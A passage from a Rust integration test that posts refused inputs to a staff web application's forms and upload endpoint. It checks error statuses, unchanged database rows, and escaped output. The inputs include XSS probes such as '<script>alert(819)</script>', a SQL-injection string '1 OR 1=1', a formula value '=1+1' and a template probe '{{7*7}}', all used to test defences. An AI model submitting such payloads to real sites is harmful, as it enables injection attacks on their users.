            ]
            .iter()
            .map(|&(k, v)| (k, if k == field { value } else { v }.to_string()))
            .collect::<Vec<_>>()
        };
        let mut values: Vec<String> = [
            "<script>alert(819)</script>",
            "\"><svg onload=alert(820)>",
            "ninety",
            "",
            "   ",
            // (The number is read with these as spaces, but the value is kept as written.)
            "86\u{b}%",
            "86 \u{85}%",
            "86\u{c}%",
            "8\u{c}6",
            "86.5%\n87%",
            "NaN",
            "inf",
            "1e400",
            "--1",
            "12,34",
            "=1+1",
        ]
        .iter()
        .map(|t| t.to_string())
        .collect();
        values.push("1".repeat(101));
        values.push(format!("86.5{}%", " ".repeat(200)));
        for value in &values {
            let typed = if value.trim().is_empty() {
                ""
            } else {
                value.as_str()
            };
            cases.push(case(&entry_path, entry("value", value), "value", typed));
        }
        for text in refused_texts() {
            for field in ["note", "override_reason"] {
                cases.push(case(&entry_path, entry(field, &text), field, text.clone()));
            }
        }
        cases.push(case(
            &entry_path,
            entry("override_reason", "  \n "),
            "override_reason",
            "",
        ));
        for rating in [
            "<script>alert(821)</script>",
            "RED",
            "r",
            "purple",
            "no_return",
        ] {
            cases.push(case(
                &entry_path,
                entry("override_rag", rating),
                "override_rag",
                "",
            ));
        }
        for revision in ["\"><script>alert(822)</script>", "1 OR 1=1", "", "1e3"] {
            bare.push(Bare {
                path: entry_path.clone(),
                fields: entry("revision", revision),
                status: StatusCode::BAD_REQUEST,
            });
        }
        // An indicator someone else owns: the owner may not enter it, whatever the form says
        // (nor find it: its value is not theirs to see before it is published).
        for value in ["86.5%", "<script>alert(823)</script>"] {
            bare.push(Bare {
                path: format!("/staff/periods/{cycle}/indicators/{other_indicator}"),
                fields: entry("value", value),
                status: StatusCode::NOT_FOUND,
            });
        }

        // Confirming an upload: only its own admin's preview, and only a preview.
        let (_, plan) = bexley_action_plan();
        let (status, html) = admin_b.upload("plan.txt", plan).await;
        assert_eq!(status, StatusCode::OK, "{backend:?}: a preview");
        let token = hidden(&html, "upload").expect("token");
        for upload in [
            token.clone(),
            format!("{token}x"),
            token[1..].to_string(),
            "\"><script>alert(824)</script>".into(),
            String::new(),
        ] {
            bare.push(Bare {
                path: "/staff/plan/confirm".into(),
                fields: vec![("upload", upload)],
                status: StatusCode::GONE,
            });
        }

        let before_all = store.row_counts().await.expect("counts");
        for Case {
            path,
            fields,
            field,
            typed,
        } in &cases
        {
            counted += 1;
            let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let browser = if path.starts_with("/staff/periods/") {
                &mut owner_b
            } else {
                &mut admin_b
            };
            let before = store.row_counts().await.expect("counts");
            let (status, html) = browser.post(path, &pairs).await;
            let value = fields
                .iter()
                .find(|(k, _)| k == field)
                .map(|(_, v)| v.as_str())
                .unwrap_or("");
            let place = format!("{backend:?} {path} with {field} {}", short(value));
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            found.check(html.contains(&format!("href=\"#{field}\"")), || {
                format!("{place}: the error does not name the field")
            });
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
            for (_, value) in fields {
                found.not_raw(&place, &html, value);
            }
            if !typed.is_empty() {
                found.escaped(&place, &html, typed);
            }
        }
        for Bare {
            path,
            fields,
            status: wanted,
        } in &bare
        {
            counted += 1;
            let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            // Another admin's session confirms, and the owner enters values.
            let browser = if path.starts_with("/staff/periods/") {
                &mut owner_b
            } else if path == "/staff/plan/confirm" {
                &mut second_b
            } else {
                &mut admin_b
            };
            let before = store.row_counts().await.expect("counts");
            let (status, html) = browser.post(path, &pairs).await;
            let place = format!("{backend:?} {path} with {}", short(&format!("{pairs:?}")));
            found.check(status == *wanted, || {
                format!("{place}: got {status}, not {wanted}")
            });
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
            for (_, value) in fields {
                found.not_raw(&place, &html, value);
            }
        }

        // Files the upload refuses: 400 naming the file field, nothing previewed or changed.
        let limit = waymark_staff::upload_pages::MAX_UPLOAD_BYTES;
        let mut big = plan.to_vec();
        big.resize(limit + 1, b'\n');
        let mut bigger = plan.to_vec();
        bigger.resize(limit + 128 * 1024, b'\n');
        for (name, bytes, shown, wanted) in [
            (
                "<svg onload=alert(825)>.txt",
                vec![0u8, 159, 146, 150, 0, 1],
                true,
                StatusCode::BAD_REQUEST,
            ),
            (
                "'><img src=x onerror=alert(826)>.txt",
                b"{{7*7}}\n<script>alert(827)</script>\n".to_vec(),
                true,
                StatusCode::BAD_REQUEST,
            ),
            ("<b>empty</b>.txt", vec![], false, StatusCode::BAD_REQUEST),
            // (No header may carry a control character: the part cannot be read at all.)
            (
                "bell\u{7}.txt",
                plan.to_vec(),
                false,
                StatusCode::BAD_REQUEST,
            ),
            ("<i>huge</i>.txt", big, false, StatusCode::PAYLOAD_TOO_LARGE),
            (
                "<i>huger</i>.txt",
                bigger,
                false,
                StatusCode::PAYLOAD_TOO_LARGE,
            ),
        ] {
            counted += 1;
            let before = store.row_counts().await.expect("counts");
            let (status, html) = admin_b.upload(name, &bytes).await;
            let place = format!("{backend:?} uploading {}", short(name));
            found.check(status == wanted, || {
                format!("{place}: got {status}, not {wanted}")
            });
            found.check(html.contains("href=\"#file\""), || {
                format!("{place}: the error does not name the field")
            });
            found.check(hidden(&html, "upload").is_none(), || {
                format!("{place}: a preview was made")
            });
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
            found.not_raw(&place, &html, name);
            if shown {
                found.escaped(&place, &html, &shown_file_name(name));
            }
        }
        // A large plan within the limit is read.
        let mut large = plan.to_vec();
        large.resize(1024 * 1024, b'\n');
        let (status, html) = admin_b.upload("large-plan.txt", &large).await;
        found.check(status == StatusCode::OK, || {
            format!("{backend:?} a 1 MB plan: got {status}: {}", short(&html))
        });
        let after_all = store.row_counts().await.expect("counts");
        found.check(after_all == before_all, || {
            format!("{backend:?}: something changed: {before_all:?} → {after_all:?}")
        });
        // The admin's own preview is still waiting, and confirms.
        let (status, _) = admin_b
            .post("/staff/plan/confirm", &[("upload", &token)])
            .await;
        found.check(status == StatusCode::SEE_OTHER, || {
            format!("{backend:?}: the admin's own preview: got {status}")
        });
    }
    found.finish();
    eprintln!("{counted} refused inputs checked");
}
